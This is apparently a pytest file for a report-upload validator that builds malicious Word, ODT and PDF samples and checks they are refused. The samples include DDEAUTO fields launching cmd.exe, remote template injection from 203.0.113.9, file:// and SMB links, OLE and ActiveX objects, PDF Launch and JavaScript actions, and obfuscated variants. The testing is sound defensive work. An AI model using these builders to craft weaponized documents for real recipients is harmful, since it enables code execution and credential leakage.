"""Uploads carrying active content are refused, ordinary documents are not (SPEC §14).

Every hostile file is built here, from the real drafts of ../shared or from
python-docx and pypdf, then edited the way an attacker would (zipfile for the
package, pypdf's writer for the PDF). The builders are shared with the API tests.
"""

from __future__ import annotations

import functools
import io
import zipfile

import docx
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml.ns import qn
from docx.oxml.parser import OxmlElement
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)

from checklists.models.reports import ReportRevision
from checklists.services.reports import report_revision_upload
from checklists.uploads import DOCX, ODT, PDF, UploadRefused, sniff_report
from tests.checklists.test_reports_uploads import V2_ODT, V2_PDF, _rezip, docx_bytes

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL = "http://schemas.openxmlformats.org/package/2006/relationships"
OLE_FILE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 1528
PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200 + b"PE\x00\x00"


# --- Word documents -------------------------------------------------------------------------


def _part(source: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(source)) as archive:
        return archive.read(name).decode()


def _with_body(xml: str, source: bytes | None = None) -> bytes:
    """A .docx whose body starts with `xml` (WordprocessingML, prefix w:)."""
    source = source or docx_bytes("Báo cáo kết quả kiểm tra")
    document = _part(source, "word/document.xml").replace("<w:body>", f"<w:body>{xml}", 1)
    return _rezip(source, replace={"word/document.xml": document.encode()})


def _field_runs(instruction: str) -> str:
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{instruction}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


DDE = ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '


def dde_simple_field_bytes() -> bytes:
    return _with_body(
        f"<w:p><w:fldSimple w:instr='{DDE}'><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"
    )


def dde_field_bytes() -> bytes:
    return _with_body(f"<w:p>{_field_runs(DDE)}</w:p>")


def dde_in_tracked_insertion_bytes() -> bytes:
    """A DDE field inside a tracked insertion, which oletools' msodde.process_docx
    does not see (it reads only runs directly under a paragraph)."""
    return _with_body(f'<w:p><w:ins w:id="9" w:author="x">{_field_runs(DDE)}</w:ins></w:p>')


def dde_spelled_by_quote_bytes() -> bytes:
    """DDEAUTO spelled by a nested QUOTE field of character codes."""
    codes = " ".join(str(ord(ch)) for ch in "DDEAUTO")
    inner = _field_runs(f"QUOTE {codes}").replace("<w:r><w:t>1</w:t></w:r>", "")
    outer = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + inner
        + '<w:r><w:instrText xml:space="preserve"> c:\\\\x.exe "a" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    return _with_body(f"<w:p>{outer}</w:p>")


def dde_in_header_bytes(*, percent_encoded: bool = False) -> bytes:
    document = docx.Document()
    document.add_paragraph("Báo cáo")
    document.sections[0].header.paragraphs[0].text = "Mật"
    buffer = io.BytesIO()
    document.save(buffer)
    source = buffer.getvalue()
    with zipfile.ZipFile(io.BytesIO(source)) as archive:
        header = next(n for n in archive.namelist() if n.startswith("word/header"))
    xml = _part(source, header).replace("</w:hdr>", f"<w:p>{_field_runs(DDE)}</w:p></w:hdr>")
    replace = {header: xml.encode()}
    if percent_encoded:
        # OPC part names may be percent-encoded: header1.xml named header%31.xml.
        rels = _part(source, "word/_rels/document.xml.rels")
        stem = header.removeprefix("word/").removesuffix(".xml")
        rels = rels.replace(f'Target="{stem}.xml"', f'Target="{stem[:-1]}%{ord(stem[-1]):X}.xml"')
        assert "%3" in rels
        replace["word/_rels/document.xml.rels"] = rels.encode()
    return _rezip(source, replace=replace)


def include_picture_field_bytes() -> bytes:
    runs = _field_runs(' INCLUDEPICTURE "\\\\\\\\evil\\\\s\\\\x.png" ')
    return _with_body(f"<w:p>{runs}</w:p>")


def _with_relationship(
    rel_type: str,
    target: str,
    *,
    part: str = "word/_rels/document.xml.rels",
    external: str | None = "External",
    add=None,
) -> bytes:
    """A .docx with one more relationship in `part` (created if need be)."""
    source = docx_bytes("Báo cáo")
    mode = "" if external is None else f' TargetMode="{external}"'
    relationship = f'<Relationship Id="rId99" Type="{rel_type}" Target="{target}"{mode}/>'
    try:
        rels = _part(source, part).replace("</Relationships>", f"{relationship}</Relationships>")
    except KeyError:
        add = {**(add or {}), part: f'<Relationships xmlns="{REL}">{relationship}</Relationships>'}
        return _rezip(source, add=add)
    return _rezip(source, replace={part: rels.encode()}, add=add)


def attached_template_bytes() -> bytes:
    """Word's remote template injection: settings.xml.rels names a .dotm on a server."""
    source = docx_bytes("Báo cáo")
    settings = _part(source, "word/settings.xml").replace(
        "</w:settings>", '<w:attachedTemplate r:id="rId1"/></w:settings>'
    )
    rels = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{REL}">'
        f'<Relationship Id="rId1" Type="{R}/attachedTemplate" '
        'Target="http://203.0.113.9/template.dotm" TargetMode="External"/></Relationships>'
    )
    return _rezip(
        source,
        replace={"word/settings.xml": settings.encode()},
        add={"word/_rels/settings.xml.rels": rels.encode()},
    )


def remote_image_bytes() -> bytes:
    return _with_relationship(f"{R}/image", "http://203.0.113.9/pixel.png")


def file_image_bytes() -> bytes:
    return _with_relationship(f"{R}/image", "file:///C:/Windows/win.ini")


def share_image_bytes() -> bytes:
    return _with_relationship(f"{R}/image", "\\\\203.0.113.9\\share\\x.png")


def file_hyperlink_bytes() -> bytes:
    return _with_relationship(f"{R}/hyperlink", "file://203.0.113.9/share/run.exe")


def sub_document_bytes() -> bytes:
    return _with_relationship(f"{R}/subDocument", "http://203.0.113.9/sub.docx")


def activex_bytes() -> bytes:
    control = (
        '<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/'
        'activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" ax:persistence="persistStream"'
        f' xmlns:r="{R}" r:id="rId1"/>'
    )
    return _with_relationship(
        "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary",
        "activeX1.bin",
        external=None,
        part="word/activeX/_rels/activeX1.xml.rels",
        add={"word/activeX/activeX1.xml": control, "word/activeX/activeX1.bin": b"\x00" * 64},
    )


def _with_embedding(name: str, content: bytes) -> bytes:
    source = docx_bytes("Báo cáo")
    rels = _part(source, "word/_rels/document.xml.rels").replace(
        "</Relationships>",
        f'<Relationship Id="rId98" Type="{R}/package" Target="embeddings/{name}"/></Relationships>',
    )
    return _rezip(
        source,
        replace={"word/_rels/document.xml.rels": rels.encode()},
        add={f"word/embeddings/{name}": content},
    )


def rtf_chunk_bytes() -> bytes:
    """A body importing an RTF "alternative format chunk" holding an OLE object."""
    source = _with_body('<w:altChunk r:id="rId97"/>')
    rels = _part(source, "word/_rels/document.xml.rels").replace(
        "</Relationships>",
        f'<Relationship Id="rId97" Type="{R}/aFChunk" Target="afchunk.rtf"/></Relationships>',
    )
    return _rezip(
        source,
        replace={"word/_rels/document.xml.rels": rels.encode()},
        add={"word/afchunk.rtf": rb"{\rtf1{\object\objemb{\*\objdata 0105000002000000}}}"},
    )


def embedded_ole_bytes() -> bytes:
    return _with_embedding("oleObject1.bin", OLE_FILE)


def renamed_ole_bytes() -> bytes:
    """An OLE object under a harmless name: recognised by its content."""
    return _with_embedding("chart-data.dat", OLE_FILE)


def xlsx_bytes(*, external_link: str | None = None) -> bytes:
    """A minimal workbook, like the one Word embeds for a chart's data."""
    types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        'content-types"><Override PartName="/xl/workbook.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>'
    )
    rels = f'<?xml version="1.0"?><Relationships xmlns="{REL}">'
    if external_link:
        rels += (
            f'<Relationship Id="rId1" Type="{R}/externalLinkPath" Target="{external_link}" '
            'TargetMode="External"/>'
        )
    rels += "</Relationships>"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/_rels/workbook.xml.rels", rels)
    return out.getvalue()


def embedded_hostile_workbook_bytes() -> bytes:
    return _with_embedding(
        "Microsoft_Excel_Worksheet.xlsx", xlsx_bytes(external_link="file:///C:/x.xlsx")
    )


def embedded_workbook_holding_ole_bytes() -> bytes:
    workbook = _rezip(xlsx_bytes(), add={"xl/embeddings/oleObject1.bin": OLE_FILE})
    return _with_embedding("Microsoft_Excel_Worksheet.xlsx", workbook)


def hyperlinks_bytes() -> bytes:
    """A report with ordinary links, as python-docx (and Word) write them."""
    document = docx.Document()
    for url in ("https://thuvienphapluat.vn/", "http://example.org/a?b=1", "mailto:vp@x.vn"):
        paragraph = document.add_paragraph("Xem ")
        r_id = paragraph.part.relate_to(url, RT.HYPERLINK, is_external=True)
        link = OxmlElement("w:hyperlink")
        link.set(qn("r:id"), r_id)
        run = OxmlElement("w:r")
        text = OxmlElement("w:t")
        text.text = url
        run.append(text)
        link.append(run)
        paragraph._p.append(link)
    # Fields Word itself writes in every report: a page number and a table of contents.
    paragraph = document.add_paragraph()
    paragraph._p.append(
        OxmlElement("w:fldSimple", {qn("w:instr"): " PAGE \\* MERGEFORMAT "}),
    )
    buffer = io.BytesIO()
    document.save(buffer)
    toc = _field_runs(' TOC \\o "1-3" \\h \\z \\u ')
    return _with_body(f"<w:p>{toc}</w:p>", buffer.getvalue())


def embedded_workbook_bytes() -> bytes:
    return _with_embedding("Microsoft_Excel_Worksheet.xlsx", xlsx_bytes())


# --- OpenDocument ---------------------------------------------------------------------------

ODF_NAMESPACES = (
    'xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" office:version="1.2"'
)


def _odt_with(xml: str) -> bytes:
    source = V2_ODT.read_bytes()
    content = (
        _part(source, "content.xml")
        .replace('office:version="1.2"', ODF_NAMESPACES, 1)
        .replace("</office:text>", f"{xml}</office:text>", 1)
    )
    return _rezip(source, replace={"content.xml": content.encode()})


def odt_dde_bytes() -> bytes:
    return _odt_with(
        '<text:dde-connection-decls><text:dde-connection-decl office:name="x" '
        'office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="a"/>'
        "</text:dde-connection-decls>"
    )


def odt_remote_image_bytes() -> bytes:
    return _odt_with(
        '<text:p><draw:frame><draw:image xlink:href="http://203.0.113.9/p.png"/></draw:frame>'
        "</text:p>"
    )


def odt_file_link_bytes() -> bytes:
    return _odt_with('<text:p><text:a xlink:href="file:///etc/passwd">x</text:a></text:p>')


def odt_ole_bytes() -> bytes:
    return _rezip(V2_ODT.read_bytes(), add={"Object 1": OLE_FILE})


def odt_hyperlink_bytes() -> bytes:
    return _odt_with(
        '<text:p><text:a xlink:href="https://example.org/">x</text:a>'
        '<text:a xlink:href="#I. ĐẶC ĐIỂM">y</text:a></text:p>'
    )


# --- PDF ------------------------------------------------------------------------------------


def _pdf(edit) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(V2_PDF))
    edit(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_open_action_launch_bytes() -> bytes:
    def edit(writer: PdfWriter) -> None:
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
            {
                NameObject("/S"): NameObject("/Launch"),
                NameObject("/F"): TextStringObject("cmd.exe"),
            }
        )

    return _pdf(edit)


def _add_javascript_name_tree(writer: PdfWriter) -> None:
    """What Acrobat writes for a document-level script (pypdf 7 dropped add_js)."""
    action = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Action"),
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('x');"),
        }
    )
    tree = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("init"), writer._add_object(action)])}
    )
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): writer._add_object(tree)}
    )


def pdf_javascript_bytes() -> bytes:
    return _pdf(_add_javascript_name_tree)


def pdf_embedded_file_bytes() -> bytes:
    return _pdf(lambda writer: writer.add_attachment("setup.exe", PROGRAM))


def _link(action: dict) -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (10, 10, 100, 30)]),
            NameObject("/A"): DictionaryObject({NameObject(k): v for k, v in action.items()}),
        }
    )


def _pdf_with_link(action: dict) -> bytes:
    def edit(writer: PdfWriter) -> None:
        writer.pages[-1][NameObject("/Annots")] = ArrayObject([writer._add_object(_link(action))])

    return _pdf(edit)


def pdf_link_javascript_bytes() -> bytes:
    """JavaScript in a link on page 2, reached only through the page tree."""
    return _pdf_with_link(
        {"/S": NameObject("/JavaScript"), "/JS": TextStringObject("this.exportDataObject()")}
    )


def pdf_file_uri_bytes() -> bytes:
    return _pdf_with_link({"/S": NameObject("/URI"), "/URI": TextStringObject("file:///C:/x.exe")})


def pdf_http_uri_bytes() -> bytes:
    return _pdf_with_link(
        {"/S": NameObject("/URI"), "/URI": TextStringObject("https://thuvienphapluat.vn/")}
    )


def pdf_escaped_name_bytes() -> bytes:
    """/JavaScript written /J#61vaScript: the same name to a reader, not to a byte search."""
    data = _pdf(_add_javascript_name_tree).replace(b"/JavaScript", b"/J#61vaScript")
    data = data.replace(b"/JS ", b"/J#53 ")
    assert b"/JavaScript" not in data
    return data


def _zip_with_program() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("setup.exe", PROGRAM)
    return out.getvalue()


def pdf_with_zip_appended_bytes() -> bytes:
    return V2_PDF.read_bytes() + _zip_with_program()


def pdf_with_program_appended_bytes() -> bytes:
    return V2_PDF.read_bytes() + PROGRAM


@functools.cache
def active_files() -> dict[str, tuple[str, bytes, str]]:
    """name → (file name sent, content, code of the refusal)."""
    builders = {
        "DDE simple field": ("docx", dde_simple_field_bytes, "dde"),
        "DDE field": ("docx", dde_field_bytes, "dde"),
        "DDE field in a tracked insertion": ("docx", dde_in_tracked_insertion_bytes, "dde"),
        "DDE spelled by QUOTE": ("docx", dde_spelled_by_quote_bytes, "dde"),
        "DDE field in a header": ("docx", dde_in_header_bytes, "dde"),
        "DDE field in a header named with %-escapes": (
            "docx",
            functools.partial(dde_in_header_bytes, percent_encoded=True),
            "dde",
        ),
        "INCLUDEPICTURE from a share": ("docx", include_picture_field_bytes, "external_link"),
        "attached remote template": ("docx", attached_template_bytes, "template"),
        "remote image": ("docx", remote_image_bytes, "external_link"),
        "file:// image": ("docx", file_image_bytes, "external_link"),
        "network-share image": ("docx", share_image_bytes, "external_link"),
        "file:// hyperlink": ("docx", file_hyperlink_bytes, "external_link"),
        "remote sub-document": ("docx", sub_document_bytes, "external_link"),
        "ActiveX control": ("docx", activex_bytes, "activex"),
        "RTF chunk imported into the body": ("docx", rtf_chunk_bytes, "embedded_file"),
        "embedded OLE object": ("docx", embedded_ole_bytes, "ole_object"),
        "OLE object under another name": ("docx", renamed_ole_bytes, "ole_object"),
        "embedded workbook linking a file": (
            "docx",
            embedded_hostile_workbook_bytes,
            "external_link",
        ),
        "embedded workbook holding OLE": (
            "docx",
            embedded_workbook_holding_ole_bytes,
            "ole_object",
        ),
        "ODT DDE connection": ("odt", odt_dde_bytes, "dde"),
        "ODT remote image": ("odt", odt_remote_image_bytes, "external_link"),
        "ODT file:// link": ("odt", odt_file_link_bytes, "external_link"),
        "ODT OLE object": ("odt", odt_ole_bytes, "ole_object"),
        "PDF OpenAction Launch": ("pdf", pdf_open_action_launch_bytes, "launch"),
        "PDF JavaScript name tree": ("pdf", pdf_javascript_bytes, "javascript"),
        "PDF JavaScript with an escaped name": ("pdf", pdf_escaped_name_bytes, "javascript"),
        "PDF embedded file": ("pdf", pdf_embedded_file_bytes, "embedded_file"),
        "PDF link running JavaScript": ("pdf", pdf_link_javascript_bytes, "javascript"),
        "PDF link to file://": ("pdf", pdf_file_uri_bytes, "external_link"),
        "PDF with a ZIP appended": ("pdf", pdf_with_zip_appended_bytes, "appended_file"),
        "PDF with a program appended": ("pdf", pdf_with_program_appended_bytes, "appended_file"),
    }
    return {
        case: (f"bao-cao.{extension}", build(), code)
        for case, (extension, build, code) in builders.items()
    }


@functools.cache
def plain_files() -> dict[str, tuple[bytes, str]]:
    """name → (content, content type): ordinary documents that must stay accepted."""
    return {
        "docx with hyperlinks and fields": (hyperlinks_bytes(), DOCX),
        "docx with a chart's workbook": (embedded_workbook_bytes(), DOCX),
        "odt with hyperlinks": (odt_hyperlink_bytes(), ODT),
        "pdf with a web link": (pdf_http_uri_bytes(), PDF),
        "pdf padded after %%EOF": (V2_PDF.read_bytes() + b"\r\n\x00\x00\x00 \n", PDF),
    }


@pytest.mark.parametrize("case", sorted(active_files()))
def test_it_refuses_active_content_naming_its_kind(case):
    _name, content, code = active_files()[case]

    with pytest.raises(UploadRefused) as refused:
        sniff_report(io.BytesIO(content))

    assert refused.value.code == code
    assert refused.value.status == 400
    assert "active content" in refused.value.message
    assert "Save it again as a plain document" in refused.value.message


@pytest.mark.parametrize("case", sorted(plain_files()))
def test_it_accepts_ordinary_documents_with_links(case):
    content, content_type = plain_files()[case]

    assert sniff_report(io.BytesIO(content)).content_type == content_type


def test_it_says_what_was_found_in_the_message():
    with pytest.raises(UploadRefused) as refused:
        sniff_report(io.BytesIO(active_files()["PDF with a ZIP appended"][1]))

    assert "another file appended after the end of the PDF" in refused.value.message


def test_it_refuses_packages_nested_deeper_than_any_report_needs():
    package = xlsx_bytes()
    for _level in range(5):
        package = _rezip(xlsx_bytes(), add={"xl/embeddings/inner.xlsx": package})

    with pytest.raises(UploadRefused) as refused:
        sniff_report(io.BytesIO(_with_embedding("Microsoft_Excel_Worksheet.xlsx", package)))

    assert refused.value.code == "embedded_file"


def test_it_counts_embedded_packages_against_the_expansion_limit(settings):
    """A bomb inside an embedded workbook is caught by the one budget of the upload."""
    settings.REPORT_ZIP_MAX_UNCOMPRESSED_BYTES = 2 * 1024 * 1024
    workbook = _rezip(xlsx_bytes(), add={"xl/media/zeros.bin": b"\x00" * 1_500_000})

    with pytest.raises(UploadRefused) as refused:
        sniff_report(io.BytesIO(_with_embedding("Microsoft_Excel_Worksheet.xlsx", workbook)))

    assert refused.value.code == "archive_too_large"


@pytest.mark.parametrize("case", ["DDE field", "ActiveX control", "PDF OpenAction Launch"])
def test_it_stores_nothing_when_the_service_refuses_active_content(case, world, settings):
    name, content, code = active_files()[case]

    with pytest.raises(UploadRefused) as refused:
        report_revision_upload(
            actor=world.people.host_in,
            visit=world.visit,
            content=io.BytesIO(content),
            filename=name,
        )

    assert refused.value.code == code
    assert ReportRevision.objects.count() == 0
    media = settings.MEDIA_ROOT
    assert not media.exists() or not [p for p in media.rglob("*") if p.is_file()]
